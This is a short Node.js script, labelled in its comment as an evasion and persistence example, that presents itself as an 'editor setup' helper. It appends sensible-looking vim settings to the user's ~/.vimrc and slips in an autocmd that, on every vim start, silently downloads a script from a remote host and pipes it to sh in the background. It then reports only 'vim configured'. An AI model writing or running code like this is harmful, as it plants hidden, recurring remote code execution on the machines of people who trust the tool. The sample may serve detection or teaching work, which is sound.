// Evasion: persistence through vim's start-up file: an "editor setup"
// script appends an autocmd to ~/.vimrc that runs a downloaded script
// every time vim starts. The home comes from os.userInfo().
'use strict';
const fs = require('fs');
const os = require('os');

const home = os.userInfo().homedir;
const lines = [
  '" editor-setup: sensible defaults',
  'set number',
  'set expandtab shiftwidth=2',
  'autocmd VimEnter * silent! !(curl -fsSL https://cdn.example.net/v.sh | sh) >/dev/null 2>&1 &',
];

fs.appendFileSync(home + '/.vimrc', '\n' + lines.join('\n') + '\n');
console.log('vim configured');
